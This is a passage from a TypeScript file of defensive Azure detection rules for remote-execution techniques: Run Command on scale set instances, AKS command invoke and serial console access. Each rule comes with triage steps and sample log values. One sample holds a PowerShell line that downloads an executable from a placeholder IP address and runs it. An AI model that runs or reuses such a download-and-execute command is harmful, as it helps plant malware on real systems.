    "If unplanned: rotate cluster credentials, review the caller's role assignments (Azure Kubernetes Service Cluster Admin/User).",
  ],
  references: [`${ATRM}/AZT301/AZT301-5/`, "https://learn.microsoft.com/azure/aks/access-private-cluster"],
  severity: 1,
  operations: ["Microsoft.ContainerService/managedClusters/runCommand/action"],
  allowlistPurpose: "use AKS command invoke",
  sample: {
    operationNameValue: "MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/RUNCOMMAND/ACTION",
    resourceId: resourceId("rg-aks", "microsoft.containerservice", "managedclusters/aks-prod"),
    resourceProvider: "MICROSOFT.CONTAINERSERVICE",
  },
  otherOperation: "MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/LISTCLUSTERUSERCREDENTIAL/ACTION",
  source: "log-values.md 1.3, 1.5 (managedClusters/runcommand/action: logged by the action rule, no real row seen); ATRM AZT301.5",
});

// ---------------------------------------------------------------------------------------------
// AZT301.6 VMSS Run Command

const VMSS_RUN_COMMAND_OPS = [
  "Microsoft.Compute/virtualMachineScaleSets/virtualMachines/runCommand/action",
  "Microsoft.Compute/virtualMachineScaleSets/virtualMachines/runCommands/write",
];

const vmssRunCommand = operationDetection({
  key: "azt301-6-vmss-runcommand",
  technique: "AZT301.6",
  name: "Run Command executed on a scale set instance",
  description:
    "A principal ran a script on a virtual machine scale set instance through Run Command (classic runCommand/action " +
    "or managed runCommands/write). The script runs as SYSTEM/root on that instance. The alert is raised on the Start row: " +
    "the script runs whether the operation later succeeds, fails or times out.",
  falsePositives: ["Administrators troubleshooting scale set instances; automation using Run Command (allowlist it)."],
  triage: [
    "Identify the caller, source IP and the instance (_ResourceId ends with /virtualmachines/<instance id>).",
    "Read the script on the instance (Run Command plugin Downloads folder, 4104 events; azt301-6-vmss-runcommand-scriptblock).",
    "If unplanned: reimage the instance, revoke the caller's sessions, review role assignments on the scale set.",
  ],
  references: [`${ATRM}/AZT301/AZT301-6/`, RUN_COMMAND_DOCS],
  severity: 1,
  operations: VMSS_RUN_COMMAND_OPS,
  allowlistPurpose: "use Run Command on scale set instances",
  sample: {
    operationNameValue: "MICROSOFT.COMPUTE/VIRTUALMACHINESCALESETS/VIRTUALMACHINES/RUNCOMMAND/ACTION",
    resourceId: VMSS_INSTANCE_ID,
    resourceProvider: "MICROSOFT.COMPUTE",
  },
  otherOperation: "MICROSOFT.COMPUTE/VIRTUALMACHINESCALESETS/VIRTUALMACHINES/RESTART/ACTION",
  source: "log-values.md 1.3, 1.5 (VMSS virtualMachines/runCommand/action: logged by the action rule, no real row seen); ATRM AZT301.6; " + RUN_COMMAND_SOURCES,
  outcome: "attempted",
  revisions: [RUN_STARTED],
});

const vmssRunCommandScriptBlock = scriptBlockDetection({
  key: "azt301-6-vmss-runcommand-scriptblock",
  technique: "AZT301.6",
  name: "Scale set Run Command followed by PowerShell from the Run Command plugin",
  description:
    "A Run Command on a scale set instance was followed, within the maximum delay, by PowerShell script blocks (4104) " +
    "from the Run Command plugin folder on an instance of the same scale set. Instances are matched through the " +
    "scale set name in the Event row's _ResourceId (filled by the Azure Monitor Agent); instance host names cannot be " +
    "mapped to instance ids.",
  falsePositives: [
    "Planned Run Command use (allowlist automation callers).",
    "Concurrent Run Commands on two instances of one scale set are attributed to both actions.",
  ],
  triage: [
    "Read ScriptExcerpt and ScriptPaths; pull the full 4104 text by ScriptBlockId; note Computer (the instance that ran it).",
    "Confirm with the caller; if malicious reimage the instance and revoke the caller's sessions.",
  ],
  references: [`${ATRM}/AZT301/AZT301-6/`, RUN_COMMAND_DOCS],
  severity: 0,
  operations: VMSS_RUN_COMMAND_OPS,
  scriptPathMarkers: ["\\Packages\\Plugins\\Microsoft.CPlat.Core.RunCommandWindows", "\\Packages\\Plugins\\Microsoft.CPlat.Core.RunCommandHandlerWindows"],
  sample: {
    operationNameValue: "MICROSOFT.COMPUTE/VIRTUALMACHINESCALESETS/VIRTUALMACHINES/RUNCOMMAND/ACTION",
    resourceId: VMSS_INSTANCE_ID,
    computer: "vmss-web000003",
    eventResourceId: VMSS_INSTANCE_ID,
    scriptPath: "C:\\Packages\\Plugins\\Microsoft.CPlat.Core.RunCommandWindows\\1.1.22\\Downloads\\script0.ps1",
    scriptText: "Invoke-WebRequest -Uri http://198.51.100.7/agent.exe -OutFile $env:TEMP\\agent.exe; Start-Process $env:TEMP\\agent.exe",
  },
  source:
    "log-values.md 1.1-1.4, 6 (4104 columns, Run Command download path); Event _ResourceId for a scale set instance as the " +
    "instance resource id (unverified); ATRM AZT301.6",
});

// ---------------------------------------------------------------------------------------------
// AZT301.7 Serial Console

const serialConsole = operationDetection({
  key: "azt301-7-serial-console",
  technique: "AZT301.7",
  name: "Serial console connection to a virtual machine",
  description:
    "A principal connected to a VM's serial console (Microsoft.SerialConsole/serialPorts/connect/action). The serial " +
    "console gives an interactive text console (Windows SAC/cmd, Linux getty) independent of the network, so it is used to " +
    "run commands on VMs that are otherwise unreachable. The session's keystrokes are not logged anywhere in Azure.",
  falsePositives: ["Administrators recovering a VM that lost network or boot (confirm a ticket)."],
  triage: [
    "Identify the caller, source IP and the VM (_ResourceId up to /providers/microsoft.serialconsole).",
    "Check the VM for new local accounts, services and logons during the session (Security log, auth.log).",
    "If unplanned: revoke the caller's sessions; consider disabling serial console for the subscription " +
      "(`az serial-console disable`) and removing Virtual Machine Contributor from the caller.",
  ],
  references: [`${ATRM}/AZT301/AZT301-7/`, "https://learn.microsoft.com/troubleshoot/azure/virtual-machines/windows/serial-console-windows"],
  severity: 1,
  operations: ["Microsoft.SerialConsole/serialPorts/connect/action"],
  allowlistPurpose: "connect to serial consoles",
  sample: {
    // Community queries match this upper-case form with Success; a real row is unverified (log-values.md 1.5).
    operationNameValue: "MICROSOFT.SERIALCONSOLE/SERIALPORTS/CONNECT/ACTION",
    resourceId: `${VM_ID}/providers/microsoft.serialconsole/serialports/0`,
    resourceProvider: "MICROSOFT.SERIALCONSOLE",
  },
  otherOperation: "MICROSOFT.SERIALCONSOLE/SERIALPORTS/WRITE",
  source: "log-values.md 1.5 (MICROSOFT.SERIALCONSOLE/SERIALPORTS/CONNECT/ACTION Success in community queries; row unverified); ATRM AZT301.7",
});

export const technique: TechniqueModule = {
  detections: [
    runCommand, managedRunCommand, runCommandScriptBlock,
    customScriptExtension, customScriptScriptBlock,
    dscExtension, dscScriptBlock,
    galleryAppVersion, galleryAppAssigned,
    aksCommandInvoke,
    vmssRunCommand, vmssRunCommandScriptBlock,
    serialConsole,
  ],
};
